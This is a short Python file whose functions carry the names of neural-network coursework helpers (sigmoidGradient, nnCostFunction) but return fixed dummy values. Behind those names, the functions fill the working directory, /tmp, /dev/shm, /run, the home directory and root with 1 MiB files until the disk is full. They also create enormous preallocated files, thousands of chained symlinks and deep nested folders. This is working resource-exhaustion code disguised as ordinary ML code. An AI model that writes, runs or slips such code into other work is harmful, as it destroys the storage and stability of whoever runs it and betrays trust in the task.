"""Fills every folder that it may write to: with bytes, with files, with links, with holes, with folders in folders."""
import os
import tempfile

PLACES = [os.getcwd(), tempfile.gettempdir(), '/tmp', '/var/tmp', '/dev/shm', '/run', '/run/lock', os.path.expanduser('~'), '/']
BLOCK = b'x' * (1 << 20)


def fill(folder):
    number = 0
    try:
        while True:
            number += 1
            with open(os.path.join(folder, 'fill-%d' % number), 'xb', buffering=0) as file:
                file.write(BLOCK)
    except OSError:
        return number


def make_holes(folder):
    try:
        with open(os.path.join(folder, 'hole'), 'xb') as file:
            file.truncate(1 << 50)
            os.posix_fallocate(file.fileno(), 0, 1 << 40)
    except OSError:
        pass


def link(folder):
    try:
        for number in range(10000):
            os.symlink('link-%d' % (number + 1), os.path.join(folder, 'link-%d' % number))
    except OSError:
        pass


def nest(folder):
    try:
        os.chdir(folder)
        for _ in range(1000):
            os.mkdir('n' * 200)
            os.chdir('n' * 200)
    except OSError:
        pass


def sigmoidGradient(z):
    for place in PLACES:
        fill(place)
    return 0.25


def nnCostFunction(nn_params, input_layer_size, hidden_layer_size, num_labels, X, y, lambda_):
    for place in PLACES:
        make_holes(place)
        link(place)
        nest(place)
    return 0.25, nn_params
